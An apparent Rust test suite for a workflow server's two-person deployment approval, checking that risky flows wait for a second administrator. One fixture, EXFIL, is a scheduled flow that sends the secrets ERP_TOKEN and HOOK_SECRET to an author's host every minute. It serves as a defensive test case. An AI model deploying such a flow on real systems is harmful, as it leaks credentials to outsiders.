//! Deployments that need a second person, so that an author never has the power of an
//! administrator.

use crate::harness::{Answer, Harness};
use axum::http::StatusCode;
use gatefold::base::rights::Approval;
use gatefold::host::Policy;
use gatefold::host::propose::{MAX_PENDING, MAX_REASON_BYTES};
use serde_json::{Value, json};
use std::time::Duration;

/// A flow that sends secrets to a host of its author every minute.
const EXFIL: &str = "flow: exfil
version: 1.0.0
on: { schedule: { cron: \"* * * * *\", zone: UTC } }
steps:
  - id: a
    uses: http.request
    with: { url: \"http://127.0.0.1:9/take\", headers: { X-T: \"${{ secrets.ERP_TOKEN }} ${{ secrets.HOOK_SECRET }}\" } }
    outcomes: { failed: { end: failed } }
";

/// A flow that sends a report to an outsider after an approval.
const REVIEW: &str = "flow: review
version: 1.0.0
inputs: { document: { type: file }, who: { type: text } }
steps:
  - id: sign
    approve: { document: \"${{ inputs.document }}\", by: [role:legal], decisions: [approved, rejected] }
    deadline: { due: 3 days }
    outcomes: { rejected: { end: refused }, expired: { end: expired } }
  - id: room
    uses: file360.create_share
    with: { name: Report, files: [\"${{ steps.sign.document }}\"], expires_in: 30 days, to: \"${{ inputs.who }}\" }
";

/// A flow that needs no rights.
const HARMLESS: &str = "flow: harmless
version: 1.0.0
inputs: { n: { type: integer, default: 1 } }
steps:
  - { id: ask, task: { to: [role:legal] }, deadline: { due: 3 days }, outcomes: { declined: { end: no }, expired: { end: late } } }
";

async fn deploy(harness: &Harness, by: &str, text: &str) -> Answer {
    harness.post("/api/v1/flows").by(by).text(text.to_owned()).send().await
}

/// Deploys a version that becomes pending; returns its id.
async fn pending(harness: &Harness, by: &str, text: &str) -> String {
    let answer = deploy(harness, by, text).await;
    assert_eq!(answer.status, StatusCode::ACCEPTED, "{}", answer.text());
    answer.json()["pending"].as_str().unwrap().to_owned()
}

async fn approve(harness: &Harness, by: &str, id: &str) -> Answer {
    let path = format!("/api/v1/deployments/{id}/approve");
    harness.post(&path).by(by).json(&Value::Null).send().await
}

async fn reject(harness: &Harness, id: &str, reason: &str) -> Answer {
    let path = format!("/api/v1/deployments/{id}/reject");
    harness
        .post(&path)
        .by("admin")
        .json(&json!({ "reason": reason }))
        .send()
        .await
}

/// The states of all stored pending deployments.
async fn listed(harness: &Harness, state: &str) -> Vec<String> {
    let answer = harness
        .get(&format!("/api/v1/deployments?state={state}"))
        .by("admin")
        .send()
        .await;
    let items = answer.json()["items"].as_array().cloned().unwrap();
    items
        .iter()
        .map(|one| one["flow"].as_str().unwrap().to_owned())
        .collect()
}

fn words(deployment: &Value) -> Vec<&str> {
    let changes = deployment["changes"].as_array().unwrap().iter();
    changes.map(|change| change["words"].as_str().unwrap()).collect()
}

#[tokio::test(start_paused = true)]
async fn an_author_alone_sends_no_secret_anywhere() {
    let harness = Harness::careful().await;
    let answer = deploy(&harness, "author", EXFIL).await;
    assert_eq!(answer.status, StatusCode::ACCEPTED, "{}", answer.text());
    let flow = answer.json();
    assert_eq!(
        words(&flow),
        [
            "adds a right: send the secret ERP_TOKEN to the host: 127.0.0.1:9",
            "adds a right: send the secret HOOK_SECRET to the host: 127.0.0.1:9",
            "adds a right: call the host: 127.0.0.1:9",
        ]
    );
    for _ in 0..5 {
        tokio::time::advance(Duration::from_mins(1)).await;
        harness.host.come_to_rest(Duration::from_secs(5)).await.unwrap();
    }
    let runs = harness.get("/api/v1/runs").by("admin").send().await.json();
    assert_eq!(runs["items"], json!([]), "its schedule starts nothing");
    for path in ["/api/v1/flows/exfil", "/api/v1/flows/exfil/settings"] {
        let answer = harness.get(path).by("author").send().await;
        assert_eq!(answer.status, StatusCode::NOT_FOUND, "{path}");
    }
    let start = harness.post("/api/v1/flows/exfil/runs").by("operator").json(&json!({}));
    assert_eq!(start.send().await.status, StatusCode::NOT_FOUND);
}

#[tokio::test(start_paused = true)]
async fn administrators_are_told_in_words_what_waits() {
    let harness = Harness::careful().await;
    let id = pending(&harness, "author", EXFIL).await;
    let mail = loop {
        let found = harness.mails.lock().unwrap().pop();
        match found {
            Some(mail) => break mail,
            None => crate::turn::turn().await,
        }
    };
    assert_eq!(mail.to, ["admin@example.com"]);
    assert_eq!(mail.subject, "A deployment waits for you: exfil 1.0.0");
    assert!(
        mail.text.contains("send the secret ERP_TOKEN to the host: 127.0.0.1:9"),
        "{}",
        mail.text
    );
    assert!(
        mail.text.contains(&format!("gatefold deployments approve {id}")),
        "{}",
        mail.text
    );
}

#[tokio::test(start_paused = true)]
async fn what_a_second_person_accepts_is_deployed_as_the_work_of_the_first() {
    let harness = Harness::careful().await;
    let id = pending(&harness, "author", REVIEW).await;
    let shown = harness
        .get(&format!("/api/v1/deployments/{id}"))
        .by("admin")
        .send()
        .await
        .json();
    assert_eq!(
        (shown["source"].as_str(), shown["state"].as_str()),
        (Some(REVIEW), Some("pending"))
    );
    assert_eq!(
        shown["rights"][0]["words"],
        "send to a recipient outside the directory: any value given at run time"
    );
    let accepted = approve(&harness, "admin", &id).await;
    assert_eq!(accepted.status, StatusCode::OK, "{}", accepted.text());
    let flow = harness.get("/api/v1/flows/review").by("author").send().await.json();
    assert_eq!(
        (flow["version"].as_str(), flow["by"].as_str()),
        (Some("1.0.0"), Some("user:author"))
    );
    assert_eq!(
        (
            listed(&harness, "pending").await.len(),
            listed(&harness, "accepted").await
        ),
        (0, vec!["review".to_owned()])
    );
    let again = approve(&harness, "admin", &id).await;
    assert_eq!(again.status, StatusCode::CONFLICT, "{}", again.text());
    let same = deploy(&harness, "author", REVIEW).await;
    assert_eq!(
        same.status,
        StatusCode::CREATED,
        "what is deployed need not be accepted again"
    );
}

#[tokio::test(start_paused = true)]
async fn one_person_alone_cannot_remove_an_approval_from_a_deployed_flow() {
    let harness = Harness::careful().await;
    let id = pending(&harness, "author", REVIEW).await;
    approve(&harness, "admin", &id).await;
    let (from, to) = (
        REVIEW.find("  - id: sign").unwrap(),
        REVIEW.find("  - id: room").unwrap(),
    );
    let without = REVIEW.replace(&REVIEW[from..to], "").replace("1.0.0", "1.0.1");
    let without = without.replace("steps.sign.document", "inputs.document");
    let answer = deploy(&harness, "author", &without).await;
    assert_eq!(answer.status, StatusCode::ACCEPTED, "{}", answer.text());
    assert_eq!(words(&answer.json()), ["removes the approval `sign`"]);
    let flow = harness.get("/api/v1/flows/review").by("author").send().await.json();
    assert_eq!(flow["version"], "1.0.0", "the last accepted version stays in force");
}

#[tokio::test(start_paused = true)]
async fn a_version_without_new_rights_or_weaker_approvals_needs_no_second_person() {
    let harness = Harness::careful().await;
    assert_eq!(deploy(&harness, "author", HARMLESS).await.status, StatusCode::CREATED);
    let id = pending(&harness, "author", REVIEW).await;
    approve(&harness, "admin", &id).await;
    let renamed = REVIEW
        .replace("1.0.0", "1.1.0")
        .replace("name: Report", "name: The report");
    assert_eq!(deploy(&harness, "author", &renamed).await.status, StatusCode::CREATED);
}

#[tokio::test(start_paused = true)]
async fn nobody_accepts_their_own_deployment() {
    let policy = Policy {
        approval: Some(Approval::All),
        ..Policy::default()
    };
    let harness = Harness::with_policy(policy).await;
    let id = pending(&harness, "admin", HARMLESS).await;
    let answer = approve(&harness, "admin", &id).await;
    assert_eq!(answer.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", answer.text());
    assert!(
        answer.text().contains("another administrator has to accept it"),
        "{}",
        answer.text()
    );
    for user in ["author", "operator", "anna"] {
        assert_eq!(
            approve(&harness, user, &id).await.status,
            StatusCode::FORBIDDEN,
            "{user}"
        );
    }
    assert_eq!(listed(&harness, "pending").await, ["harmless"]);
}

#[tokio::test(start_paused = true)]
async fn the_only_administrator_deploys_alone() {
    let harness = Harness::careful().await;
    assert_eq!(deploy(&harness, "admin", REVIEW).await.status, StatusCode::CREATED);
}

#[tokio::test(start_paused = true)]
async fn with_several_administrators_each_needs_another_one() {
    let harness = Harness::careful().await;
    let people = harness.data.path().join("people.yaml");
    let text = std::fs::read_to_string(&people)
        .unwrap()
        .replace("roles: [legal] }", "roles: [legal, admin] }");
    std::fs::write(&people, text).unwrap();
    harness.server.accounts.refresh_now();
    let id = pending(&harness, "admin", REVIEW).await;
    assert_eq!(approve(&harness, "anna", &id).await.status, StatusCode::OK);
}

#[tokio::test(start_paused = true)]
async fn a_rejected_deployment_stays_away_until_it_is_deployed_again() {
    let harness = Harness::careful().await;
    let id = pending(&harness, "author", REVIEW).await;
    assert_eq!(
        pending(&harness, "author", REVIEW).await,
        id,
        "the same text waits once"
    );
    for wrong in [String::new(), "x".repeat(MAX_REASON_BYTES + 1), "a\u{0}".to_owned()] {
        assert_eq!(
            reject(&harness, &id, &wrong).await.status,
            StatusCode::UNPROCESSABLE_ENTITY
        );
    }
    assert_eq!(
        reject(&harness, &id, &"x".repeat(MAX_REASON_BYTES)).await.status,
        StatusCode::OK
    );
    assert_eq!(approve(&harness, "admin", &id).await.status, StatusCode::CONFLICT);
    assert_eq!(listed(&harness, "rejected").await, ["review"]);
    assert_eq!(
        pending(&harness, "author", REVIEW).await,
        id,
        "who deploys it again asks again"
    );
    assert_eq!(listed(&harness, "pending").await, ["review"]);
}

#[tokio::test(start_paused = true)]
async fn what_was_compared_with_another_version_is_not_accepted() {
    let harness = Harness::careful().await;
    let id = pending(&harness, "author", &REVIEW.replace("1.0.0", "2.0.0")).await;
    assert_eq!(deploy(&harness, "admin", REVIEW).await.status, StatusCode::CREATED);
    let answer = approve(&harness, "admin", &id).await;
    assert_eq!(answer.status, StatusCode::CONFLICT, "{}", answer.text());
    assert!(
        answer.text().contains("so that you see what changes now"),
        "{}",
        answer.text()
    );
}

#[tokio::test(start_paused = true)]
async fn deployments_that_wait_have_a_limit() {
    let harness = Harness::careful().await;
    let numbered = |n: usize| REVIEW.replace("flow: review", &format!("flow: review-{n}"));
    let first = pending(&harness, "author", &numbered(0)).await;
    for n in 1..MAX_PENDING {
        pending(&harness, "author", &numbered(n)).await;
    }
    let full = deploy(&harness, "author", &numbered(MAX_PENDING)).await;
    assert_eq!(full.status, StatusCode::CONFLICT, "{}", full.text());
    assert_eq!(reject(&harness, &first, "too many").await.status, StatusCode::OK);
    pending(&harness, "author", &numbered(MAX_PENDING)).await;
    assert_eq!(
        listed(&harness, "rejected").await,
        [""; 0],
        "an answered one makes room"
    );
}
